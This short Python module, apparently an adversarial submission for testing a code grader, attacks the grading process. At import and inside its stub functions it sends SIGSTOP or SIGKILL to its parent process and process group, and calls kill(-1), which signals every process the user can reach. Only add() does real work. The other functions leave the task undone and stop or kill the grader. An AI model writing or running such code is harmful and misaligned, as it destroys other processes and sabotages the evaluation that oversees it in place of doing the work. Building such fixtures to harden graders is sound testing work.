"""Signals the grader: SIGSTOP/SIGKILL to the parent, kill(-1), killpg, at import and in calls."""

import os
import signal


def attack(sig):
    for target in (
        lambda: os.kill(os.getppid(), sig),
        lambda: os.kill(-1, sig),
        lambda: os.killpg(os.getpgid(os.getppid()), sig),
    ):
        try:
            target()
        except OSError:
            pass


attack(signal.SIGSTOP)


def add(a, b):
    return a + b


def mean_square(x):
    attack(signal.SIGSTOP)
    raise NotImplementedError


def scale(x, factor):
    attack(signal.SIGKILL)
    raise NotImplementedError
